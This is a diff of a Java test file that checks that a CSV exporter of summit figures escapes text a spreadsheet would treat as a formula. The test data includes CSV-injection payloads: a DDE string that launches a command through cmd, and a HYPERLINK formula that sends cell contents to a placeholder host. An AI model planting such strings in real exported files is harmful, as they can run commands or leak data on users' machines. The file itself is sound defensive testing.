@@ -2,13 +2,17 @@ package org.summitry.examples.figures;
 
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.params.provider.Arguments.arguments;
 
+import com.google.common.base.CharMatcher;
+import com.google.common.base.Splitter;
 import com.google.common.collect.ImmutableMap;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
+import java.util.stream.Stream;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
 import net.jqwik.api.ForAll;
@@ -17,6 +21,8 @@ import net.jqwik.api.Provide;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.summitry.Summit;
 import org.summitry.examples.asean26.Asean26;
@@ -41,7 +47,7 @@ class FiguresTest {
     Path folder = Path.of("");
 
     private static Ran run(String... args) {
-        return Ran.of(Figures::run, args);
+        return Ran.of(Figures.program(), args);
     }
 
     private static List<List<String>> cells(String csv) {
@@ -181,19 +187,35 @@ class FiguresTest {
                 .containsAllEntriesOf(Map.of("aspect", "share", "shareOf", "world trade", "unit", "percent"));
     }
 
+    static Stream<Arguments> formulas() {
+        return Stream.of(
+                arguments(
+                        "=HYPERLINK(\"http://example.org?x=\"&A1,\"more\")",
+                        "'=HYPERLINK(\"http://example.org?x=\"&A1,\"more\")"),
+                arguments("+1+1", "'+1+1"),
+                arguments("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+                arguments("@SUM(1)", "'@SUM(1)"),
+                arguments("＝1+1", "'＝1+1"),
+                arguments("  =1", "'  =1"),
+                arguments("\u00A0\u3000=1", "'\u00A0\u3000=1"),
+                arguments("\u200B\uFEFF=1", "'\u200B\uFEFF=1"),
+                arguments("\"=1\"", "'\"=1\""),
+                arguments("\t=1", "'\t'=1"),
+                arguments("\r=1", "'\r'=1"),
+                arguments("\n=1", "'\n'=1"),
+                arguments("goods;=1", "goods;'=1"),
+                arguments("goods; \"=1\"", "goods;' \"=1\""),
+                arguments("goods|@SUM(1)", "goods|'@SUM(1)"),
+                arguments("goods,+1", "goods,'+1"),
+                arguments("goods\t-1", "goods\t'-1"),
+                arguments("goods\r\n=1", "goods\r'\n'=1"),
+                arguments("1=1; a+b, c-d", "1=1; a+b, c-d"),
+                arguments("a = b", "a = b"));
+    }
+
     @ParameterizedTest
-    @ValueSource(
-            strings = {
-                "=HYPERLINK(\"http://example.org?x=\"&A1,\"more\")",
-                "+1+1",
-                "-2+3+cmd|' /C calc'!A0",
-                "@SUM(1)",
-                "\t=1",
-                "\r=1",
-                "\n=1",
-                "＝1+1"
-            })
-    void aTextThatWouldBeAFormulaIsAText(String text) {
+    @MethodSource("formulas")
+    void aTextThatWouldBeAFormulaIsAText(String text, String cell) {
         Summit hostile = summit(
                 text,
                 figure(Quantity.of("1", Unit.USD))
@@ -203,10 +225,22 @@ class FiguresTest {
                         .build());
 
         assertThat(rows(FigureTable.csv(List.of(hostile))).get(0))
-                .containsEntry("summitName", "'" + text)
-                .containsEntry("reporterName", "'" + text)
-                .containsEntry("definition", "'" + text)
-                .containsEntry("conditions", "'" + text);
+                .containsEntry("summitName", cell)
+                .containsEntry("reporterName", cell)
+                .containsEntry("definition", cell)
+                .containsEntry("conditions", cell);
+    }
+
+    /** Reads a table as a spreadsheet does that was told another separator: quotes count only where they begin a cell. */
+    @Property
+    void noSpreadsheetOfAnySeparatorFindsAFormula(@ForAll("texts") String name, @ForAll("texts") String definition) {
+        String csv = FigureTable.csv(List.of(summit(
+                name, figure(Quantity.of("-1", Unit.USD)).definition(definition).build())));
+        String ofTheFigure = csv.substring(csv.indexOf('\n') + 1);
+
+        assertThat(Splitter.on(CharMatcher.anyOf(";|\t\r\n")).split(ofTheFigure))
+                .allSatisfy(cell -> assertThat(cell.replaceFirst("(?U)^[\\s\"\\p{Cntrl}]+", ""))
+                        .doesNotContainPattern("\\A[=+@＝＋－＠-]"));
     }
 
     @Test
@@ -245,19 +279,19 @@ class FiguresTest {
 
         Map<String, String> row = rows(FigureTable.csv(List.of(summit))).get(0);
 
-        assertThat(row.get("summitName")).isEqualTo(asCell(name));
-        assertThat(row.get("definition")).isEqualTo(asCell(definition));
-        assertThat(row.get("conditions")).isEqualTo(asCell(condition));
+        assertThat(withoutApostrophes(row, "summitName")).isEqualTo(name);
+        assertThat(withoutApostrophes(row, "definition")).isEqualTo(definition);
+        assertThat(withoutApostrophes(row, "conditions")).isEqualTo(condition);
     }
 
-    private static String asCell(String text) {
-        return text.matches("(?s)[=+\\-@\t\r\n＝＋－＠].*") ? "'" + text : text;
+    private static String withoutApostrophes(Map<String, String> row, String column) {
+        return row.getOrDefault(column, "").replace("'", "");
     }
 
     @Provide
     Arbitrary<String> texts() {
         return Arbitraries.strings()
-                .withChars("=+-@\t\r\n\"',;| a0<\u0000\u2028é")
+                .withChars("=+-@\t\r\n\",;| a0<\u0000\u2028é")
                 .all()
                 .ofMinLength(1)
                 .ofMaxLength(12)
@@ -291,8 +325,9 @@ class FiguresTest {
         assertThat(document).content(UTF_8).isEqualTo(before);
         assertThat(run("--out", folder.resolve("missing/figures.csv").toString()))
                 .satisfies(ran -> assertThat(ran.code()).isEqualTo(2))
-                .satisfies(
-                        ran -> assertThat(ran.err()).contains("cannot write ").contains("NoSuchFileException"));
+                .satisfies(ran -> assertThat(ran.err())
+                        .startsWith("Figures: cannot write ")
+                        .endsWith(": no such file or folder\n"));
     }
 
     @Test
@@ -309,12 +344,12 @@ class FiguresTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"--nonsense", "-h", "--out"})
+    @ValueSource(strings = {"--nonsense", "-x", "--out"})
     void wrongArgumentsAreAnsweredWithTheUsage(String argument) {
         Ran ran = run(argument);
 
         assertThat(ran.code()).isEqualTo(2);
         assertThat(ran.out()).isEmpty();
-        assertThat(ran.err()).contains("cannot do anything with " + argument).contains("usage: Figures");
+        assertThat(ran.err()).contains(argument).contains("Usage: Figures").endsWith("Try: Figures --help\n");
     }
 }
